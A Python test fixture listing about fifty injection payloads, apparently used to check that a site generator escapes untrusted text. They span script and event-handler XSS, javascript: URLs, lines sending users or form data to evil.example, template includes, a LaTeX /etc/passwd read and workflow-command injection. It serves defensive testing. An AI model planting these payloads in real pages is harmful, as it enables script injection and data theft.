"""Texts of strangers that would run or change a page if anything forgot to escape them."""

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(2)</script>",
    "</textarea></style></script><script>alert(3)</script>",
    "<img src=x onerror=alert(4)>",
    '"><img src=x onerror=alert(5)>',
    "' onmouseover='alert(6)' x='",
    '" autofocus onfocus="alert(7)',
    "<svg onload=alert(8)>",
    "<svg><animate onbegin=alert(9) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(10)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(12)>'>",
    "<iframe src=javascript:alert(13)></iframe>",
    "<iframe srcdoc='<script>alert(14)</script>'></iframe>",
    "<a href=javascript:alert(15)>click</a>",
    "<a href='data:text/html,<script>alert(16)</script>'>click</a>",
    "<details open ontoggle=alert(17)>",
    "<body onload=alert(18)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<!-- comment --> <![CDATA[ data ]]>",
    "<form action=https://evil.example/><button>send</button>",
    "[link](javascript:alert(19))",
    "![image](https://evil.example/x.png)",
    "[text][ref] [ref]: javascript:alert(20)",
    "<https://evil.example/> <javascript:alert(21)>",
    "# Heading ## Heading",
    "**bold** _italic_ ~~gone~~ `code` ==mark==",
    "- item 1. item > quote",
    "| a | b | --- | --- |",
    "{: .hidden onclick=alert(22) }",
    "{#slot .class onclick=alert(23)}",
    "{{ config }} {{ 7*7 }} {% raw %} {# no #}",
    "{% include 'mkdocs.yml' %}",
    '--8<-- "mkdocs.yml"',
    "--- title: evil ---",
    "!!! note admonition ??? more",
    "&lt;script&gt;alert(24)&lt;/script&gt; &amp; &#60;b&#62;",
    "papers-slot-body papers-slot-head papers-slot-title",
    "::set-output name=x::y ##[set-env name=x]y",
    "%3Cscript%3Ealert(25)%3C/script%3E",
    "\\u003cscript\\u003ealert(26)\\u003c/script\\u003e",
    '=HYPERLINK("https://evil.example/","x")',
    "\\input{/etc/passwd} \\end{document} }} @misc{x,",
    "javascript:alert(27)//",
    "${alert(28)} `${alert(29)}`",
    "\u202etxet desrever\u202c and \u2066more\u2069",
]

# What a source escaped for HTML is read as the text that it stands for,
_STANDS_FOR = {
    "&lt;script&gt;alert(24)&lt;/script&gt; &amp; &#60;b&#62;": "<script>alert(24)</script> & <b>",
}
READ = [_STANDS_FOR.get(payload, payload) for payload in PAYLOADS]
# and a name is parted by a comma or semicolon: “Last, First”.
_PARTED = {
    "<a href='data:text/html,<script>alert(16)</script>'>click</a>": (
        "<script>alert(16)</script>'>click</a> <a href='data:text/html"
    ),
    "&lt;script&gt;alert(24)&lt;/script&gt; &amp; &#60;b&#62;": (
        "&lt;script&gt;alert(24)&lt;/script&gt; &amp; &#60;b&#62"
    ),
    '=HYPERLINK("https://evil.example/","x")': '"x") =HYPERLINK("https://evil.example/"',
    "\\input{/etc/passwd} \\end{document} }} @misc{x,": (
        "\\input{/etc/passwd} \\end{document} }} @misc{x"
    ),
}
NAMES = [_PARTED.get(payload, payload) for payload in PAYLOADS]
